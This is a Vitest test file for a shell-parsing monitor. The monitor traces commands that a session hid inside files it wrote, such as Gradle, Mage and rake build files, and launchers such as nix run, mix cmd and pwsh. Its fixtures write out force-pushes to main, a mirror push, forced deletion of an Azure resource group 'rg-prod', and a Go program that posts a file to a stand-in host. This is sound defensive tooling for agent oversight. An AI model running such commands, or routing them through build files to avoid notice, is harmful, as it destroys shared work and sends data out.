// Blind round 29 (the same rule in another stack): the build tools of other stacks run what their build file says —
// a Gradle Exec task's commandLine, a Mage target's sh.Run, a rake task in a namespace of lib/tasks — and the
// launchers nix run and mix cmd run the command they name. Only for files the session wrote.
import { describe, expect, it } from 'vitest';
import { parseShell } from '../../src/shell/index.js';
import { runs, written } from './follow-helpers.js';

const GRADLE_KTS = [
  'plugins {\n    kotlin("jvm") version "2.0.21"\n}\n',
  'tasks.register<Exec>("syncMain") {\n    group = "git"\n    commandLine("git", "push", "--force", "origin", "HEAD:main")\n}\n',
  'tasks.register<Exec>("lint") {\n    commandLine(listOf("ktlint", "--format"))\n}\n',
  'tasks.register<Exec>("computed") {\n    commandLine("git", "push", branch)\n}\n',
].join('\n');

const GRADLE_GROOVY = "task mirror(type: Exec) {\n    commandLine 'git', 'push', '--mirror', 'origin'\n}\n";

const MAGEFILE = [
  '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/mg"\n\t"github.com/magefile/mage/sh"\n)\n',
  'type Gitops mg.Namespace\n',
  '// Sync makes origin match the local main.\nfunc (Gitops) Sync() error {\n\treturn sh.RunV("git", "push", "--force", "origin", "main")\n}\n',
  'func Build() error {\n\tif err := sh.Run("go", "build", "./..."); err != nil { return err }\n\treturn nil\n}\n',
].join('\n');

const RAKE_TASKS =
  'namespace :git do\n  desc "sync"\n  task :sync do\n    sh "git push --force origin main"\n  end\n\n  task check: [:fetch] do\n    sh "git status"\n  end\n\n  task :fetch do\n    sh "git fetch origin"\n  end\nend\n';

describe('a build file the session wrote, run by its build tool', () => {
  it("runs a Gradle Exec task's literal commandLine (Kotlin DSL and Groovy), by name or by task path", () => {
    const ctx = written({ '/p/build.gradle.kts': GRADLE_KTS, '/q/build.gradle': GRADLE_GROOVY });
    expect(runs('cd /p && ./gradlew syncMain', ctx)).toContain('git push --force origin HEAD:main');
    expect(runs('cd /p && gradle :app:syncMain --console=plain', ctx)).toContain('git push --force origin HEAD:main');
    expect(runs('cd /p && ./gradlew lint', ctx)).toContain('ktlint --format');
    expect(runs('cd /q && gradle mirror', ctx)).toContain('git push --mirror origin');
  });

  it('leaves Gradle alone where it runs no Exec task: another task, a dry run, a computed command line', () => {
    const ctx = written({ '/p/build.gradle.kts': GRADLE_KTS });
    expect(runs('cd /p && ./gradlew test', ctx).join('\n')).not.toContain('git push');
    expect(runs('cd /p && ./gradlew -m syncMain', ctx).join('\n')).not.toContain('git push');
    expect(runs('cd /p && ./gradlew computed', ctx).join('\n')).not.toContain('git push');
    // the team's own build file (not written by the session) is not read
    expect(runs('cd /r && ./gradlew syncMain', ctx).join('\n')).not.toContain('git push');
  });

  it("runs a Mage target's sh.Run calls, a namespace's method named ns:target, case aside", () => {
    const ctx = written({ '/p/magefile.go': MAGEFILE });
    expect(runs('cd /p && mage gitops:sync', ctx)).toContain('git push --force origin main');
    expect(runs('cd /p && mage Gitops:Sync', ctx)).toContain('git push --force origin main');
    expect(runs('cd /p && mage build', ctx)).toContain('go build ./...');
    expect(runs('cd /p && mage build', ctx).join('\n')).not.toContain('git push');
    expect(runs('cd /p && mage -l', ctx).join('\n')).not.toContain('git push');
  });

  it('runs a rake task of a namespace in lib/tasks or rakelib, with its prerequisites', () => {
    const ctx = written({ '/p/lib/tasks/git.rake': RAKE_TASKS, '/q/rakelib/git.rake': RAKE_TASKS });
    expect(runs('cd /p && bundle exec rake git:sync', ctx)).toContain('git push --force origin main');
    expect(runs('cd /q && rake git:check', ctx)).toEqual(expect.arrayContaining(['git fetch origin', 'git status']));
    expect(runs('cd /p && rake git:check', ctx).join('\n')).not.toContain('git push');
    expect(runs('cd /p && rake -T', ctx).join('\n')).not.toContain('git push');
  });
});

describe('launchers of other stacks', () => {
  it('reads nix run FLAKE#PKG as the package program with the words after it', () => {
    expect(runs('nix run nixpkgs#git -- push --force origin main')).toContain('git push --force origin main');
    expect(runs('nix run --impure nixpkgs#git push -f origin main')).toContain('git push -f origin main');
    // a flake's own default app names no program
    expect(runs('nix run .')).toEqual(['nix run .']);
  });

  it('reads mix cmd as the command it runs', () => {
    expect(runs('mix cmd --app ledger_core git push -f origin main')).toContain('git push -f origin main');
    expect(runs('mix test')).toEqual(['mix test']);
  });

  it("reads pwsh -Command in double quotes as written, PowerShell's own $ variables as unknown expansions", () => {
    expect(runs('pwsh -NoProfile -Command "Publish-Module -Name Acme.Tools -NuGetApiKey $env:KEY"')[0]).toMatch(
      /^Publish-Module -Name Acme\.Tools -NuGetApiKey /,
    );
    expect(runs('pwsh -Command "Remove-AzResourceGroup -Name rg-prod -Force -Confirm:$false"')[0]).toMatch(
      /^Remove-AzResourceGroup -Name rg-prod -Force /,
    );
    // a bash shell's -c with a computed line stays opaque: only PowerShell's is read as written
    expect(runs('bash -c "git push -f origin $B"').filter((c) => c.startsWith('git '))).toEqual([]);
  });

  it('finds the action of nixos-rebuild after its options', () => {
    const parsed = parseShell('nixos-rebuild --flake .#web --target-host root@prod-web --use-remote-sudo switch');
    expect(parsed.commands[0]?.positionals).toEqual(['switch']);
  });

  it("gives go run ./pkg the text of the package's files the session wrote, as go run main.go has its file's", () => {
    const ctx = written({
      '/r/cmd/share/main.go': 'package main\n\nfunc main() { http.Post("https://x.example/u", "text/csv", f) }\n',
    });
    const go = parseShell('cd /r && go run ./cmd/share', undefined, ctx).commands.find((c) => c.program === 'go');
    expect(go?.input?.text).toContain('http.Post');
    const other = parseShell('cd /r && go run ./cmd/other', undefined, ctx).commands.find((c) => c.program === 'go');
    expect(other?.input).toBeUndefined();
  });
});
